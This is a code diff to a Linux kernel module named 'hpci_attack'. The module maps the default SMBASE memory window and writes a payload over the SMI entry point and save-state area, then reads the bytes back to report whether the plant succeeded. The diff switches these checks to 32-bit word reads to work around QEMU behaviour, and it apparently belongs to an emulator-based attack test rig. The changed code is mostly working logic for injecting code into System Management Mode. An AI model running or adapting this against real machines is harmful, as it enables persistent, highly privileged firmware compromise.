@@ -29,6 +29,7 @@
 #include <linux/proc_fs.h>
 #include <linux/slab.h>
 #include <linux/string.h>
+#include <linux/swab.h>
 #include <linux/uaccess.h>
 #include <asm/apic.h>
 #include <asm/smp.h>
@@ -95,17 +96,38 @@ static void payload_place(u8 *dst, unsigned long phys, const char *token, bool d
 	memcpy(dst + PAYLOAD_OFF(hpci_payload_token), token, TOKEN_LEN);
 }
 
+/*
+ * The window is read in 32-bit words: QEMU 7.2 returns all 32 bits of its
+ * blackhole for a byte read, and under TCG a zero-extending byte load then
+ * leaves 0xffffffff in the register (docs/facts.md §1; fixed in our QEMU by
+ * patch 0008).  Word reads give the same answer on every QEMU.
+ */
+static size_t count_equal(const void *mapped, const void *want, size_t len)
+{
+	const u32 *p = mapped, *w = want;
+	size_t n = 0, i, b;
+
+	for (i = 0; i < len / 4; i++) {
+		u32 got = READ_ONCE(p[i]);
+
+		for (b = 0; b < 4; b++)
+			n += ((got >> (8 * b)) & 0xff) == ((w[i] >> (8 * b)) & 0xff);
+	}
+	return n;
+}
+
 static int cmd_plant(const char *token)
 {
-	u8 *win, *entry, *save;
-	size_t stuck = 0, pattern = 0, i;
-	u8 *want;
+	u8 *win, *entry, *save, *want, *pattern;
+	size_t stuck, pattern_stuck;
+	u32 head[2];
 
 	if (!token_ok(token))
 		return -EINVAL;
-	want = kmalloc(PAYLOAD_LEN, GFP_KERNEL);
+	want = kmalloc(PAYLOAD_LEN + SAVE_STATE_LEN, GFP_KERNEL);
 	if (!want)
 		return -ENOMEM;
+	pattern = want + PAYLOAD_LEN;
 	win = memremap(SMBASE_DEFAULT, SMBASE_WINDOW, MEMREMAP_WB);
 	if (!win) {
 		kfree(want);
@@ -114,16 +136,17 @@ static int cmd_plant(const char *token)
 	entry = win + SMI_ENTRY_OFF;
 	save = win + SAVE_STATE_OFF;
 	payload_place(want, SMBASE_DEFAULT + SMI_ENTRY_OFF, token, false);
-	memset(save, SAVE_PATTERN, SAVE_STATE_LEN);
+	memset(pattern, SAVE_PATTERN, SAVE_STATE_LEN);
+	memcpy(save, pattern, SAVE_STATE_LEN);
 	memcpy(entry, want, PAYLOAD_LEN);
 	wmb();
-	for (i = 0; i < PAYLOAD_LEN; i++)
-		stuck += entry[i] == want[i];
-	for (i = 0; i < SAVE_STATE_LEN; i++)
-		pattern += save[i] == SAVE_PATTERN;
-	set_result("HPCI-ATTACK-PLANT token=%s at=0x%lx bytes=%zu stuck=%zu pattern=%zu/%lu readback=%*phN",
-		   token, SMBASE_DEFAULT + SMI_ENTRY_OFF, PAYLOAD_LEN, stuck, pattern,
-		   SAVE_STATE_LEN, 8, entry);
+	stuck = count_equal(entry, want, PAYLOAD_LEN);
+	pattern_stuck = count_equal(save, pattern, SAVE_STATE_LEN);
+	head[0] = READ_ONCE(((u32 *)entry)[0]);
+	head[1] = READ_ONCE(((u32 *)entry)[1]);
+	set_result("HPCI-ATTACK-PLANT token=%s at=0x%lx bytes=%zu stuck=%zu pattern=%zu/%lu readback=%08x%08x",
+		   token, SMBASE_DEFAULT + SMI_ENTRY_OFF, PAYLOAD_LEN, stuck, pattern_stuck,
+		   SAVE_STATE_LEN, swab32(head[0]), swab32(head[1]));
 	memunmap(win);
 	kfree(want);
 	return 0;
@@ -131,16 +154,20 @@ static int cmd_plant(const char *token)
 
 static int cmd_check(void)
 {
-	u8 *win = memremap(SMBASE_DEFAULT, SMBASE_WINDOW, MEMREMAP_WB);
-	size_t open = 0, i;
+	u32 *win = memremap(SMBASE_DEFAULT, SMBASE_WINDOW, MEMREMAP_WB);
+	size_t open = 0, i, b;
 	long first = -1;
 
 	if (!win)
 		return -ENOMEM;
-	for (i = 0; i < SMBASE_WINDOW; i++) {
-		if (win[i] != 0xFF) {
+	for (i = 0; i < SMBASE_WINDOW / 4; i++) {
+		u32 got = READ_ONCE(win[i]);
+
+		for (b = 0; b < 4; b++) {
+			if (((got >> (8 * b)) & 0xff) == 0xff)
+				continue;
 			if (first < 0)
-				first = i;
+				first = i * 4 + b;
 			open++;
 		}
 	}
@@ -317,6 +344,10 @@ static const struct proc_ops attack_ops = {
 
 static int __init attack_init(void)
 {
+	if (memchr(hpci_payload_start, 0xFF, PAYLOAD_LEN)) {
+		pr_err("hpci_attack: the payload has a 0xFF byte; see payload.S\n");
+		return -EINVAL;
+	}
 	if (!proc_create("hpci-attack", 0600, NULL, &attack_ops))
 		return -ENOMEM;
 	set_result("HPCI-ATTACK-IDLE");
